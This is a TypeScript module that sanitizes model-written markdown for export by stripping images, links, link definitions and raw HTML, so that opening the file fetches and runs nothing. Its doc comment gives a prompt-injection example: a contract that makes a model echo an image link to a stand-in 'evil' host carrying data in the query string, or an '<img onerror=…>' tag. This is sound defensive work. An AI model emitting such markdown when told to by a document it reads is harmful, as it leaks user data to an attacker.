import type { Nodes, Root } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { escapeMarkdownText } from '../../../shared/markdownText';

/** Parses markdown into a tree (CommonMark; raw HTML stays an inert `html` node, nothing is rendered). */
export function parseMarkdown(markdown: string): Root {
  return fromMarkdown(markdown);
}

/**
 * Rewrites model-written markdown so that opening the exported file in any viewer fetches nothing
 * and runs nothing: a contract can make a model echo `![x](https://evil/?q=…)` or
 * `<img onerror=…>`, and many viewers would load that image. Images become their alt text, links
 * become their text, raw HTML is escaped so it shows as text, and link definitions are dropped (so
 * a citation such as "[p. 4]" can never turn into a link). Everything else is left byte for byte.
 */
export function neutralizeMarkdown(markdown: string): string {
  // One pass can, in odd inputs, bring two fragments together into new syntax; repeat until stable.
  let current = markdown;
  for (let pass = 0; pass < 4; pass += 1) {
    const { text, edited } = neutralizeOnce(current);
    if (!edited) return text;
    current = text;
  }
  return escapeInline(current);
}

function neutralizeOnce(markdown: string): { text: string; edited: boolean } {
  const edits: { start: number; end: number; text: string }[] = [];
  const visit = (node: Nodes): void => {
    const start = node.position?.start.offset;
    const end = node.position?.end.offset;
    if (start !== undefined && end !== undefined) {
      switch (node.type) {
        case 'html':
          edits.push({ start, end, text: node.value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;') });
          return;
        case 'image':
          edits.push({ start, end, text: escapeInline(node.alt ?? '') });
          return;
        case 'link':
          edits.push({ start, end, text: escapeInline(plainText(node)) });
          return;
        case 'definition':
          edits.push({ start, end, text: '' });
          return;
      }
    }
    if ('children' in node) for (const child of node.children) visit(child);
  };
  visit(parseMarkdown(markdown));
  let out = markdown;
  for (const edit of edits.sort((a, b) => b.start - a.start)) out = out.slice(0, edit.start) + edit.text + out.slice(edit.end);
  return { text: out, edited: edits.length > 0 };
}

/** The text of a node and its descendants, without any markup. */
export function plainText(node: Nodes): string {
  if ('value' in node && typeof node.value === 'string' && node.type !== 'html') return node.value;
  if (node.type === 'image') return node.alt ?? '';
  if ('children' in node) return node.children.map((c) => plainText(c)).join('');
  return '';
}

/** Backslash-escapes characters that could start markdown syntax, for text placed inline. */
export const escapeInline = escapeMarkdownText;
